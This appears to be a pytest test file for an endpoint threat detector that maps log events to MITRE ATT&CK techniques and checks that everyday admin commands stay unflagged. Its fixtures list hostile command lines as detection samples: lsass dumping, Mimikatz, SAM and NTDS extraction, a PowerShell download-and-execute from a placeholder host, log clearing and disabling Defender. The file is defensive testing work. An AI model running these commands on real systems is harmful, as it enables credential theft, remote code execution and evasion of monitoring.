"""Steps of an attack that endpoint logs show: each is named, what administrators do every day is not."""

from __future__ import annotations

import re
from typing import Any

import numpy as np
import pytest

from detectors import Verdict
from detectors.attack_steps import STEPS
from detectors.endpoints import EndpointDetector
from detectors.step_rules import Patterns, StepRules
from telemetry import EventBatch, Kind, parse_windows
from telemetry.event import Event

WINDOWS = "C:\\Windows\\System32\\"
POWERSHELL = f"{WINDOWS}WindowsPowerShell\\v1.0\\powershell.exe"
ENCODED = "powershell -noP -w 1 -enc SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMA"


def reported(rows: Any, times: list[float], **columns: Any) -> EventBatch:
    batch: EventBatch = rows(times, **({"kind": Kind.ENDPOINT, "source": "win", "peer": "ws-5"} | columns))
    return batch


def told(detector: EndpointDetector, batch: EventBatch) -> list[Verdict]:
    batch = batch.take(detector.mine(batch))
    detector.learn(batch)
    return detector.explain(detector.score(batch), batch, 50.0)


def named(rows: Any, **columns: Any) -> set[str]:
    return {verdict.technique for verdict in told(EndpointDetector(100), reported(rows, [10.0], **columns))}


@pytest.mark.parametrize(
    ("columns", "expected"),
    [
        (("process_access", "C:\\Users\\x\\a.exe", f"{WINDOWS}lsass.exe", "0x1410"), "T1003.001"),
        (("process_access", POWERSHELL, f"{WINDOWS}LSASS.EXE", "0x1FFFFF"), "T1003.001"),
        (("remote_thread", "C:\\a.exe", f"{WINDOWS}lsass.exe", ""), "T1003.001"),
        (("process_create", "", "procdump64.exe -ma lsass.exe out", ""), "T1003.001"),
        (("process_create", "", "rundll32 C:\\windows\\comsvcs.dll, MiniDump 624 c:\\x full", ""), "T1003.001"),
        (("script", "", "Invoke-Mimikatz -Command privilege::debug", ""), "T1003.001"),
        (("process_create", "", "reg save HKLM\\SAM c:\\x", ""), "T1003.002"),
        (("object_access", "C:\\a.exe", "\\Registry\\Machine\\SAM\\SAM\\Domains\\Account\\Users\\1", ""), "T1003.002"),
        (("process_create", "", "reg.exe save hklm\\security c:\\s", ""), "T1003.004"),
        (("file_create", "C:\\a.exe", "C:\\temp\\ntds.dit", ""), "T1003.003"),
        (("process_create", "", 'ntdsutil "ac i ntds" ifm "create full c:\\t" q q', ""), "T1003.003"),
        (("directory_access", "tina", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", "0x100"), "T1003.006"),
        (("file_open", "cat", "/etc/shadow", ""), "T1003.008"),
        (("service_install", "BTOBTO", "%COMSPEC% /Q /c echo dir ^> x 2^>^&1 > y.bat", ""), "T1569.002"),
        (("service_install", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", ""), "T1569.002"),
        (("service_install", "hKzQ", "%systemroot%\\QkXzPwLm.exe", ""), "T1569.002"),
        (("process_create", f"{WINDOWS}services.exe", f"{WINDOWS}cmd.exe /c whoami", ""), "T1569.002"),
        (("process_create", "", "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", ""), "T1021.002"),
        (("share_access", "tina", "\\\\*\\IPC$\\svcctl", "0x3"), "T1021.002"),
        (("share_access", "tina", "\\\\*\\ADMIN$\\Temp\\x.exe", "0x2"), "T1021.002"),
        (("process_create", f"{WINDOWS}wbem\\WmiPrvSE.exe", "powershell.exe -c calc", ""), "T1047"),
        (("process_create", "", "wmic /node:10.0.0.9 process call create calc", ""), "T1047"),
        (("process_create", f"{WINDOWS}wsmprovhost.exe", "cmd.exe /c ver", ""), "T1021.006"),
        (("explicit_logon", POWERSHELL, "admin@dc-1", ""), "T1021"),
        (("logon", "type 9 seclogo", "tina", "success"), "T1550.002"),
        (("process_create", "", ENCODED, ""), "T1059.001"),
        (("script", "", "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", ""), "T1059.001"),
        (("script", "", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))", ""), "T1059.001"),
        (("process_create", "", "schtasks /create /tn u /tr C:\\Users\\Public\\u.exe /sc daily", ""), "T1053.005"),
        (("task_create", "tina", "\\u <Task><Exec><Command>powershell.exe</Command></Exec></Task>", ""), "T1053.005"),
        (("registry_set", "a.exe", "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u = mshta http://x/"
          , ""), "T1547.001"),
        (("log_clear", "tina", "Security", ""), "T1070.001"),
        (("process_create", "", "wevtutil cl System", ""), "T1070.001"),
        (("protection_off", "", "", ""), "T1562.001"),
        (("script", "", "Set-MpPreference -DisableRealtimeMonitoring $true", ""), "T1562.001"),
        (("process_create", "", "sc stop WinDefend", ""), "T1562.001"),
    ],
)  # fmt: skip
def test_a_step_is_named(rows: Any, columns: tuple[str, str, str, str], expected: str) -> None:
    found = named(rows, **dict(zip(("action", "service", "resource", "outcome"), columns, strict=True)))
    assert expected in found


@pytest.mark.parametrize(
    "columns",
    [
        ("process_access", f"{WINDOWS}csrss.exe", f"{WINDOWS}lsass.exe", "0x1fffff"),
        ("process_access", "C:\\Program Files\\Guard\\agent.exe", f"{WINDOWS}lsass.exe", "0x1410"),
        ("process_access", POWERSHELL, f"{WINDOWS}lsass.exe", "0x1000"),
        ("process_access", POWERSHELL, f"{WINDOWS}notepad.exe", "0x1410"),
        ("process_create", f"{WINDOWS}services.exe", f"{WINDOWS}svchost.exe -k netsvcs", ""),
        ("process_create", f"{WINDOWS}wininit.exe", f"{WINDOWS}lsass.exe", ""),
        ("process_create", "explorer.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\it\\a.ps1", ""),
        ("process_create", "explorer.exe", "schtasks /query", ""),
        ("process_create", "explorer.exe", "whoami", ""),
        ("process_create", "explorer.exe", "reg query HKLM\\Software", ""),
        ("process_create", "explorer.exe", "wevtutil qe System /c:5", ""),
        ("service_install", "Printer", "C:\\Program Files\\Print\\p.exe", ""),
        ("directory_access", "DC-1$", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", "0x100"),
        ("share_access", "tina", "\\\\*\\Projects\\plan.docx", "0x2"),
        ("share_access", "tina", "\\\\*\\IPC$\\srvsvc", "0x3"),
        ("explicit_logon", f"{WINDOWS}svchost.exe", "tina@localhost", ""),
        ("logon", "type 3 Kerberos", "tina", "success"),
        ("registry_set", "a.exe", "HKU\\S\\Microsoft\\Windows\\CurrentVersion\\Run\\x = C:\\Program Files\\x.exe", ""),
        ("file_open", "eog", "/home/tina/shadow.png", ""),
        ("file_create", "code.exe", "C:\\src\\mimic.py", ""),
    ],
)  # fmt: skip
def test_what_happens_every_day_is_not(rows: Any, columns: tuple[str, str, str, str]) -> None:
    assert named(rows, **dict(zip(("action", "service", "resource", "outcome"), columns, strict=True))) == set()


def test_every_step_names_a_technique_and_where_it_is_from() -> None:
    for step in STEPS:
        assert re.fullmatch(r"T\d{4}(\.\d{3})?", step.technique)
        assert step.what
        assert step.like
        assert step.when
        assert EndpointDetector.threshold <= step.score <= 1


def test_two_steps_on_one_host_are_two_things_to_tell(rows: Any) -> None:
    batch = reported(rows, [10.0, 11.0, 12.0], resource=[ENCODED, "wevtutil cl Security", ENCODED])
    verdicts = told(EndpointDetector(100), batch)
    assert sorted(verdict.technique for verdict in verdicts) == ["T1059.001", "T1070.001"]
    assert len({verdict.id for verdict in verdicts}) == 2


DISCOVERY = ["whoami /all", "net user", "nltest /dclist:bank", "ipconfig /all", "systeminfo"]


def test_a_burst_of_discovery_is_told_once_and_single_commands_are_not(rows: Any) -> None:
    detector = EndpointDetector(100)
    few = reported(rows, [10.0, 20.0, 30.0], action="process_create", resource=DISCOVERY[:3])
    assert told(detector, few) == []
    (verdict,) = told(detector, reported(rows, [40.0, 50.0], action="process_create", resource=DISCOVERY[3:]))
    assert (verdict.technique, verdict.since, verdict.subject) == ("T1018", 10.0, "ws-5")
    assert "domain controllers" in verdict.evidence[0]


def test_a_burst_is_explained_though_it_has_ended_meanwhile(rows: Any) -> None:
    detector, batch = EndpointDetector(100), reported(rows, [10.0] * 5, action="process_create", resource=DISCOVERY)
    detector.learn(batch)
    scores = detector.score(batch)
    detector.learn(reported(rows, [9000.0], action="process_create", resource="whoami"))
    (verdict,) = detector.explain(scores, batch, 9000.0)
    assert verdict.subject == "ws-5"


def test_an_empty_state_of_an_earlier_version_is_no_state() -> None:
    detector = EndpointDetector(100)
    detector.restore({})
    assert len(detector.state()["hashes"]) == 0


def test_the_same_commands_over_a_day_or_on_many_hosts_are_no_burst(rows: Any) -> None:
    slow = reported(rows, [1e4 * place for place in range(5)], action="process_create", resource=DISCOVERY)
    assert told(EndpointDetector(100), slow) == []
    hosts = [f"ws-{place}" for place in range(5)]
    spread = reported(rows, [10.0] * 5, action="process_create", resource=DISCOVERY, peer=hosts)
    assert told(EndpointDetector(100), spread) == []


def test_each_text_is_looked_at_once(rows: Any) -> None:
    rules, batch = StepRules(STEPS, 1000, 0), reported(rows, [1.0, 2.0], resource=[ENCODED, "x"])
    first = rules.found(batch)
    looked = rules.looked
    again = rules.found(reported(rows, [3.0, 4.0, 5.0], resource=["X", ENCODED.upper(), "x"]))
    assert rules.looked == looked
    assert (first[0].tolist(), again[0].tolist()) == ([0], [1])


def test_what_follows_many_harmless_bytes_is_seen(rows: Any) -> None:
    """Two texts that are equal in all that a hash takes at a time."""
    harmless, hostile = "a" * 1500 + " explorer.exe" + " " * 40, "a" * 1500 + " wevtutil cl Security"
    detector = EndpointDetector(100)
    assert told(detector, reported(rows, [1.0], resource=harmless[: len(hostile)])) == []
    assert [verdict.technique for verdict in told(detector, reported(rows, [2.0], resource=hostile))] == ["T1070.001"]


def test_a_column_has_room_for_so_many_patterns() -> None:
    with pytest.raises(ValueError, match="65 patterns"):
        Patterns(["x"] * 65)


def test_windows_events_of_an_attack_are_named_from_their_lines(rows: Any) -> None:
    lines = [
        b'{"EventID": 7045, "SourceName": "Service Control Manager", "Hostname": "ws-6", "ServiceName": "Q",'
        b' "ImagePath": "%COMSPEC% /C calc", "@timestamp": "2026-01-01T00:00:00Z"}',
        b'{"EventID": 1102, "SourceName": "Microsoft-Windows-Eventlog", "Hostname": "ws-6", "Channel": "Security",'
        b' "@timestamp": "2026-01-01T00:00:01Z"}',
    ]
    events = [event for line in lines if isinstance(event := parse_windows(line, "win"), Event)]
    verdicts = told(EndpointDetector(100), EventBatch.of(events))
    assert {(verdict.subject, verdict.technique) for verdict in verdicts} == {
        ("ws-6", "T1569.002"),
        ("ws-6", "T1070.001"),
    }
    assert all(np.isfinite(verdict.since) for verdict in verdicts)
